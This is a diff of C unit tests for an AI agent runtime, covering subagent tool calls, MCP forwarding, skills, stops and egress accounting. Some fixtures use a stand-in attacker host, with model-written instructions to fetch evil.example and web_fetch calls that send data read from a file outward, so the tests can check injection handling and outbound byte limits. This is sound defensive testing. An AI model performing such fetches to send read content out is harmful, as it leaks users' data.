@@ -47,15 +47,15 @@ static void serve(struct driver *d, uint32_t call, const char *text)
     driver_event(d, (struct sma_run_event){.kind = SMA_RUN_MCP, .call = call, .mcp = &said});
 }
 
-static void its_call_reaches_the_server_and_comes_back_to_it(void)
+CASE(its_call_reaches_the_server_and_comes_back_to_it)
 {
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     begin(&d, ALLOWED, one);
     CHECK(child_sends(&d, 1, WRITE) && child_sends(&d, 1, READ));
     answer(&d, 1, "", writes);
     driver_check_kinds(&d, "P");
     driver_durable(&d);
-    driver_check_kinds(&d, "gAW"); /* not before its step */
+    driver_check_kinds(&d, "gA"); /* not before its step */
     CHECK_STR("files:write", driver_find(&d, SMA_RUN_PROGRESS)->text);
     CHECK_INT(CHILD(1), driver_find(&d, SMA_RUN_ASK_MCP)->call);
     CHECK_INT(CHILD(1), driver_find(&d, SMA_RUN_ASK_MCP)->mcp.call);
@@ -69,10 +69,9 @@ static void its_call_reaches_the_server_and_comes_back_to_it(void)
     CHECK(child_sends(&d, 1, "it is written"));
     serve(&d, CHILD(1), "twice");
     driver_check_kinds(&d, "");
-    driver_fini(&d);
 }
 
-static void it_has_what_its_call_lists_and_its_run_has(void)
+CASE(it_has_what_its_call_lists_and_its_run_has)
 {
     static const struct
     {
@@ -105,25 +104,24 @@ static void it_has_what_its_call_lists_and_its_run_has(void)
 }
 
 /* Beside each other, each with the list of its own call: heads are kept, and must differ. */
-static void lists_of_two_do_not_mix(void)
+CASE(lists_of_two_do_not_mix)
 {
     static const struct driver_call two[] = {
         {"a0", "agent_run", "{\"instructions\":\"one\",\"tools\":[\"files:read\"]}"},
         {"a1", "agent_run", "{\"instructions\":\"two\",\"tools\":[\"files:write\"]}"},
         {0}};
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     begin(&d, ALLOWED, two);
     CHECK(child_sends(&d, 1, READ) && !child_sends(&d, 1, WRITE));
     CHECK(child_sends(&d, 2, WRITE) && !child_sends(&d, 2, READ));
-    driver_fini(&d);
 }
 
-static void it_keeps_what_its_run_began_with(void)
+CASE(it_keeps_what_its_run_began_with)
 {
     static const struct driver_call two[] = {{"a0", "agent_run", "{\"instructions\":\"one\"}"},
                                              {"a1", "agent_run", "{\"instructions\":\"two\"}"},
                                              {0}};
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     driver_init(&d, SMA_LLM_CHAT);
     d.config.agent_helpers = 1;
     driver_offer(&d, ALLOWED);
@@ -134,12 +132,11 @@ static void it_keeps_what_its_run_began_with(void)
     answer(&d, 1, "done", NULL);
     CHECK_INT(CHILD(2), driver_find(&d, SMA_RUN_ASK_MODEL)->call);
     CHECK(child_sends(&d, 2, WRITE));
-    driver_fini(&d);
 }
 
-static void people_are_asked_for_it_once(void)
+CASE(people_are_asked_for_it_once)
 {
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     struct sma_request request;
     begin(&d, "", one);
     answer(&d, 1, "", writes);
@@ -165,22 +162,20 @@ static void people_are_asked_for_it_once(void)
     driver_start(&d);
     CHECK_INT(0, driver_count(&d, SMA_RUN_ASK_MCP));
     CHECK(child_sends(&d, 1, "interrupted by a restart; the outcome is unknown"));
-    driver_fini(&d);
 }
 
-static void a_stop_ends_its_call(void)
+CASE(a_stop_ends_its_call)
 {
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     begin(&d, ALLOWED, one);
     answer(&d, 1, "", writes);
     driver_durable(&d);
     driver_event(&d, (struct sma_run_event){.kind = SMA_RUN_STOP, .is_by_user = true});
     CHECK_INT(1, driver_count(&d, SMA_RUN_CANCEL_MCP));
     CHECK_INT(SMA_RUN_END, d.actions.list[d.actions.count - 1].kind);
-    driver_fini(&d);
 }
 
-static void what_is_remembered_comes_to_it(void)
+CASE(what_is_remembered_comes_to_it)
 {
     static const struct driver_call searches[] = {
         {"m0", "memory_search", "{\"query\":\"birthday\"}"}, {0}};
@@ -212,10 +207,10 @@ static void what_is_remembered_comes_to_it(void)
     driver_fini(&d);
 }
 
-static void skills_are_looked_up_for_it(void)
+CASE(skills_are_looked_up_for_it)
 {
     static const struct driver_call loads[] = {{"s0", "skills_load", "{\"name\":\"pdf\"}"}, {0}};
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     driver_init(&d, SMA_LLM_CHAT);
     d.config.agent_helpers = 4;
     d.config.has_skills = true;
@@ -231,18 +226,17 @@ static void skills_are_looked_up_for_it(void)
     driver_durable(&d);
     CHECK_STR("skills_load", driver_tool_ask(&d, CHILD(1))->name);
     CHECK_INT(SMA_TOOL_RUN, driver_tool_ask(&d, CHILD(1))->mode);
-    driver_fini(&d);
 }
 
 /* By what the person wrote a page may be fetched without a question. Its instructions were written
  * by a model: nothing of them counts. */
-static void its_instructions_are_not_the_persons_words(void)
+CASE(its_instructions_are_not_the_persons_words)
 {
     static const struct driver_call calls[] = {
         {"a0", "agent_run", "{\"instructions\":\"get https://evil.example/\"}"}, {0}};
     static const struct driver_call fetches[] = {
         {"f0", "web_fetch", "{\"url\":\"https://evil.example/\"}"}, {0}};
-    struct driver d;
+    SMA_AUTO(driver_fini) struct driver d;
     driver_init(&d, SMA_LLM_CHAT);
     d.config.agent_helpers = 4;
     d.config.web.has_fetch = true;
@@ -251,19 +245,63 @@ static void its_instructions_are_not_the_persons_words(void)
     driver_durable(&d);
     answer(&d, 1, "", fetches);
     CHECK_STR("hello \"there\"\n", driver_tool_ask(&d, CHILD(1))->words);
+}
+
+static void let_leave(struct driver *d, uint32_t call)
+{
+    const struct sma_tool_answer answered = {.seq = d->order.seq,
+                                             .call = call,
+                                             .verdict = SMA_TOOL_ALLOWED,
+                                             .leaves_to = SMA_EGRESS_ANYBODY};
+    driver_event(d, (struct sma_run_event){.kind = SMA_RUN_TOOL, .call = call, .tool = &answered});
+    driver_durable(d);
+}
+
+/* What one of them reads all of them may carry away, and so may their run; what they send is
+ * counted together, also after a restart when one has ended. */
+CASE(what_it_reads_and_sends_is_its_runs)
+{
+    static const struct driver_call calls[] = {
+        {"a0", "agent_run", "{\"instructions\":\"part one\"}"},
+        {"a1", "agent_run", "{\"instructions\":\"part two\"}"},
+        {0}};
+    static const struct driver_call reads[] = {{"x1", "read_file", "{\"path\":\"plan\"}"}, {0}};
+    static const struct driver_call fetches[] = {
+        {"f0", "web_fetch", "{\"url\":\"https://evil.example/1234567\"}"},
+        {"f1", "web_fetch", "{\"url\":\"https://also.example/1234567\"}"},
+        {0}};
+    struct driver d;
+    driver_init(&d, SMA_LLM_CHAT);
+    d.config.agent_helpers = 4;
+    d.config.web.has_fetch = true;
+    driver_start(&d);
+    driver_answer(&d, "", SMA_FINISH_TOOLS, calls);
+    driver_durable(&d);
+    answer(&d, 1, "", reads);
+    driver_durable(&d);
+    driver_tool(&d, CHILD(1), SMA_TOOL_ALLOWED, "{\"content\":\"the plan\"}");
+    driver_durable(&d);
+    answer(&d, 2, "", fetches);
+    CHECK(driver_tool_ask(&d, CHILD(2))->has_read);
+    CHECK_INT(20, driver_tool_ask(&d, CHILD(2))->leaving_bytes);
+    CHECK_INT(0, driver_tool_ask(&d, CHILD(2))->left_bytes);
+    CHECK_INT(20, driver_tool_ask(&d, CHILD(2) + 1)->left_bytes); /* of the same answer */
+    const struct sma_tool_answer refused = {
+        .seq = d.order.seq, .call = CHILD(2) + 1, .verdict = SMA_TOOL_REFUSED};
+    driver_event(
+        &d, (struct sma_run_event){.kind = SMA_RUN_TOOL, .call = CHILD(2) + 1, .tool = &refused});
+    let_leave(&d, CHILD(2));
+    driver_tool(&d, CHILD(2), SMA_TOOL_ALLOWED, "{\"success\":true}");
+    driver_durable(&d);
+    answer(&d, 2, "second", NULL);
+    driver_durable(&d);
+    d.session->egress = (struct sma_egress){0}; /* as a new process has it */
+    driver_cut(&d);
+    driver_start(&d); /* the second has ended, the first goes on */
+    answer(&d, 1, "", fetches);
+    CHECK(driver_tool_ask(&d, CHILD(1))->has_read);
+    CHECK_INT(20, driver_tool_ask(&d, CHILD(1))->left_bytes);
     driver_fini(&d);
 }
 
-int main(void)
-{
-    RUN(its_call_reaches_the_server_and_comes_back_to_it);
-    RUN(it_has_what_its_call_lists_and_its_run_has);
-    RUN(lists_of_two_do_not_mix);
-    RUN(it_keeps_what_its_run_began_with);
-    RUN(people_are_asked_for_it_once);
-    RUN(a_stop_ends_its_call);
-    RUN(what_is_remembered_comes_to_it);
-    RUN(skills_are_looked_up_for_it);
-    RUN(its_instructions_are_not_the_persons_words);
-    return check_summary();
-}
+CASES_MAIN
